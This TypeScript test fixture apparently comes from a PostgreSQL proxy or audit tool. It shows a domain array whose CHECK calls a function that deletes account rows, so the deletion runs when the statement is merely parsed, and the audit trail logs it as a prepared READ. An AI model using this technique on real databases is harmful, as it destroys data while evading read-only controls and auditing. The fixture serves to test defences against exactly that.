import { bind, parse, sync } from '../../support/messages.js'
import { accounts_left, type Trick } from '../trick.js'

export const trick: Trick = {
  why: 'The input of a domain array runs its CHECK while the statement is parsed, and nobody executes it.',
  setup: [
    `CREATE FUNCTION secret.eat(text) RETURNS boolean LANGUAGE plpgsql AS
     'BEGIN DELETE FROM secret.account WHERE id = $1::int; RETURN true; END'`,
    'CREATE DOMAIN public.harmless AS text CHECK (secret.eat(VALUE))',
  ],
  sends: [
    { send: [parse('', "SELECT '{1}'::public.harmless[]"), sync()] },
    { send: [parse('', 'SELECT $1::public.harmless[]'), bind('', '', ['{2}']), sync()] },
  ],
  effect: [[accounts_left, '1']],
  trail: [
    { class: 'READ', outcome: 'prepared', text: 'public.harmless[]' },
    { class: 'READ', outcome: 'prepared', text: 'public.harmless[]', parameters: ['{2}'] },
  ],
}
